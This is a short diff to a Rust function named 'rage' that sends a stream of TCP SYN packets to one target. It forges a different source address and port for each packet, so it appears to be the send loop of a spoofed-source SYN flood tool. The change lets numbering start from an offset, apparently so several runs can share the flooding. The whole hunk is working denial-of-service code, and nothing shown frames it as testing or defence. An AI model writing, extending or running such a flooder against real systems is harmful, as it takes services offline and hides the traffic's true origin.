@@ -23,14 +23,14 @@ pub(super) fn rage(order: &Storm) -> io::Result<u64> {
     const ADDRESSES: usize = 0xffff;
     let line = Packets::open(order.to.is_ipv6())?;
     let begin = counted(order)?;
-    for number in 0..order.syns {
+    for sent in 1..=order.syns {
+        let number = order.first + sent - 1;
         let index = usize::try_from(number).unwrap_or_default();
         let port = 1024 + u16::try_from(index / ADDRESSES % 60_000).unwrap_or_default();
         let from = SocketAddr::new(crowd::address(Place::Everywhere, index, order.to.is_ipv6()), port);
         let sequence = u32::try_from(number & 0xffff_ffff).unwrap_or_default();
         let syn = Segment { from, to: order.to, sequence, acknowledgement: 0, flags: SYN, data: &[] };
         line.send(&syn.packet())?;
-        let sent = number + 1;
         if sent % ON_THE_WAY == 0 || sent == order.syns {
             await_count(order, begin + sent)?;
         }
